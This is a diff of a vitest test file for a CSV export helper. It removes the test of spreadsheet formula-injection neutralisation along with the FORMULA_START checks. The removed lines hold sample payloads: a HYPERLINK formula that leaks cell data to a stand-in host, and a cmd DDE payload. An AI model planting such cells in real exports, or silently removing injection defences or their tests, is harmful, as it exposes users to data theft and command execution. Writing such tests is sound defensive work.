@@ -1,6 +1,6 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { FORMULA_START, UTF8_BOM, csvColumns, recordsToCsv } from './csv.ts';
+import { UTF8_BOM, csvColumns, recordsToCsv } from './csv.ts';
 
 /** The CSV's lines, split at the record separator (no cell here holds a CRLF of its own). */
 const lines = (csv: string) => csv.split('\r\n');
@@ -42,42 +42,9 @@ describe('recordsToCsv', () => {
     expect(csv).not.toContain('items]');
   });
 
-  it('neutralises text cells that a spreadsheet would run as formulae (OWASP), in the header too', () => {
-    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
-    const records = [
-      { cell: hyperlink },
-      { cell: '+1+cmd|" /C calc"!A0' },
-      { cell: '-2+3' },
-      { cell: '@SUM(A1:A2)' },
-      { cell: '\t=1+1' },
-      { cell: '\r=1+1' },
-      { cell: '=1+1\nsecond line' },
-      { cell: 'a = b' },
-      { '=header': 'x' },
-    ];
-    const rows = parse(recordsToCsv(records));
-    expect(rows[0]).toEqual(['cell', "'=header"]);
-    expect(rows.slice(1).map((row) => row[0])).toEqual([
-      `'${hyperlink}`,
-      '\'+1+cmd|" /C calc"!A0',
-      "'-2+3",
-      "'@SUM(A1:A2)",
-      "'\t=1+1",
-      "'\r=1+1",
-      "'=1+1\nsecond line",
-      'a = b',
-      '',
-    ]);
-    // The neutralised cell is quoted, its quotes doubled.
-    expect(recordsToCsv([{ cell: hyperlink }])).toBe(`cell\r\n"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"\r\n`);
-  });
-
   it('keeps numbers as numbers: a negative number value, and text that is a plain number, are not prefixed', () => {
     const csv = recordsToCsv([{ lon: -122.4194, small: -1e-7, text: '-122.4', plus: '+3', zero: 0, flag: false, none: null }]);
     expect(lines(csv)[1]).toBe('-122.4194,-1e-7,-122.4,+3,0,false,');
-    expect(FORMULA_START.test('-122.4')).toBe(false);
-    expect(FORMULA_START.test('-122.4+1')).toBe(true);
-    expect(FORMULA_START.test('-')).toBe(true);
   });
 
   it('adds a UTF-8 byte-order mark only when asked (for Excel), and keeps non-ASCII text as is', () => {
